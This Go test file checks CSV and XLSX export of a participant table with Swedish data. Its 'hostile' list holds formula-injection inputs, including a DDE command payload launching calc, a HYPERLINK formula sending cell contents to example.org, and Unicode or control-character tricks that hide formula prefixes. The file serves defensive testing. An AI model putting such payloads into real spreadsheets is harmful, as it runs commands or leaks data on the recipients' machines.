package sheet_test

import (
	"errors"
	"iter"
	"strings"
	"testing"
	"time"
	_ "time/tzdata"

	"samling/internal/sheet"
)

// rowsOf delivers rows as a database would: one slice, filled again and again.
func rowsOf(rows ...[]any) iter.Seq2[[]any, error] {
	return func(yield func([]any, error) bool) {
		var row []any
		for _, r := range rows {
			row = append(row[:0], r...)
			if !yield(row, nil) {
				return
			}
		}
	}
}

var errBroken = errors.New("connection lost")

func brokenAfter(row []any) iter.Seq2[[]any, error] {
	return func(yield func([]any, error) bool) {
		if yield(row, nil) {
			yield(nil, errBroken)
		}
	}
}

func stockholm(t testing.TB) *time.Location {
	t.Helper()
	loc, err := time.LoadLocation("Europe/Stockholm")
	if err != nil {
		t.Fatal(err)
	}
	return loc
}

// hostile are cells that would run, hide or spill in one spreadsheet program or
// another.
func hostile() []struct{ name, cell, wantCSV, wantXLSX string } {
	return []struct{ name, cell, wantCSV, wantXLSX string }{
		{"formula", "=1+1", "'=1+1", "=1+1"},
		{"link", `=HYPERLINK("https://example.org?"&A1,"Klicka")`, `'=HYPERLINK("https://example.org?"&A1,"Klicka")`, `=HYPERLINK("https://example.org?"&A1,"Klicka")`},
		{"command", "=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0", "=cmd|' /C calc'!A0"},
		{"plus", "+1+1", "'+1+1", "+1+1"},
		{"phone number", "+46 155 24 50 00", "'+46 155 24 50 00", "+46 155 24 50 00"},
		{"minus", "-1+cmd|' /C calc'!A0", "'-1+cmd|' /C calc'!A0", "-1+cmd|' /C calc'!A0"},
		{"list item", "- vegan", "'- vegan", "- vegan"},
		{"at", "@SUM(1+1)", "'@SUM(1+1)", "@SUM(1+1)"},
		{"tab and formula", "\t=1+1", "' =1+1", " =1+1"},
		{"tab and text", "\tAda", "' Ada", " Ada"},
		{"carriage return", "\r=1+1", "'\n=1+1", "\n=1+1"},
		{"line feed", "\n=1+1", "'\n=1+1", "\n=1+1"},
		{"wide equals", "＝1+1", "'＝1+1", "＝1+1"},
		{"wide plus", "＋1", "'＋1", "＋1"},
		{"wide minus", "－1", "'－1", "－1"},
		{"wide at", "＠SUM(1)", "'＠SUM(1)", "＠SUM(1)"},
		{"small equals", "﹦1+1", "'﹦1+1", "﹦1+1"},
		{"behind a space", " =1+1", "' =1+1", " =1+1"},
		{"behind a no-break space", "\u00a0=1+1", "'\u00a0=1+1", "\u00a0=1+1"},
		{"behind a character without width", "\u200b=1+1", "'\u200b=1+1", "\u200b=1+1"},
		{"behind a byte order mark", "\ufeff=1+1", "'\ufeff=1+1", "\ufeff=1+1"},
		{"behind a control character", "\x00=1+1", "'=1+1", "=1+1"},
		{"in the second cell of a broken row", "a\";=1+1;\"", "a\";=1+1;\"", "a\";=1+1;\""},
		{"on the second line", "a\r\n=1+1", "a\n=1+1", "a\n=1+1"},
		{"already guarded", "'=1+1", "'=1+1", "'=1+1"},
		{"bell and escape", "A\x07d\x1b[31ma", "Ad[31ma", "Ad[31ma"},
		{"second control block", "A\u0085da", "Ada", "Ada"},
		{"broken bytes", "A\xffda", "A\ufffdda", "A\ufffdda"},
		{"leading zero", "0101", "0101", "0101"},
		{"escape that Excel knows", "_x000D_", "_x000D_", "_x000D_"},
		{"markup", "<b>&amp;</b>", "<b>&amp;</b>", "<b>&amp;</b>"},
		{"sign inside", "Ada = Lovelace", "Ada = Lovelace", "Ada = Lovelace"},
		{"Swedish", "Åsa Öström", "Åsa Öström", "Åsa Öström"},
		{"empty", "", "", ""},
		{"spaces", "  ", "  ", "  "},
	}
}

func participants(t testing.TB) sheet.Table {
	loc := stockholm(t)
	return sheet.Table{
		Name: "Deltagare",
		Columns: []sheet.Column{
			{Heading: "Namn"},
			{Heading: "Antal", Kind: sheet.Number},
			{Heading: "Pris", Kind: sheet.Number},
			{Heading: "Anmäld", Kind: sheet.Time},
			{Heading: "Gallras", Kind: sheet.Date},
		},
		Rows: rowsOf(
			[]any{"Åsa Öström", 2, 1200.5, time.Date(2024, 1, 31, 23, 59, 0, 0, loc), time.Date(2024, 5, 6, 0, 0, 0, 0, loc)},
			[]any{"0101", -5, -0.5, time.Date(2024, 7, 1, 9, 30, 0, 0, loc), time.Time{}},
			[]any{nil, nil, nil, nil, nil},
			[]any{true, "många", "=1+1", "igår", "1815-12-10"},
		),
	}
}

func TestErrorsNameTheRow(t *testing.T) {
	columns := []sheet.Column{{Heading: "Namn"}}
	tests := []struct {
		name string
		rows iter.Seq2[[]any, error]
		want string
	}{
		{"reading stops", brokenAfter([]any{"Ada"}), "row 2: connection lost"},
		{"too many cells", rowsOf([]any{"Ada"}, []any{"Ada", "Lovelace"}), "row 2: 2 cells for 1 columns"},
		{"too few cells", rowsOf([]any{"Ada"}, nil), "row 2: 0 cells for 1 columns"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			table := sheet.Table{Columns: columns, Rows: tt.rows}
			var out strings.Builder
			rows, err := sheet.WriteCSV(&out, table, sheet.CSVOptions{})
			if rows != 1 || err == nil || err.Error() != tt.want {
				t.Errorf("WriteCSV = %d, %v; want 1, %s", rows, err, tt.want)
			}
			out.Reset()
			rows, err = sheet.WriteXLSX(&out, sheet.Cover{}, table)
			if rows != 1 || err == nil || err.Error() != tt.want {
				t.Errorf("WriteXLSX = %d, %v; want 1, %s", rows, err, tt.want)
			}
			if out.Len() > 0 {
				t.Error("half a workbook was handed out")
			}
		})
	}
}

type brokenPipe struct{}

func (brokenPipe) Write([]byte) (int, error) { return 0, errBroken }

func TestReaderWhoLeavesEndsTheWriting(t *testing.T) {
	if _, err := sheet.WriteCSV(brokenPipe{}, participants(t), sheet.CSVOptions{}); !errors.Is(err, errBroken) {
		t.Errorf("WriteCSV: %v", err)
	}
	if _, err := sheet.WriteXLSX(brokenPipe{}, sheet.Cover{}, participants(t)); !errors.Is(err, errBroken) {
		t.Errorf("WriteXLSX: %v", err)
	}
}
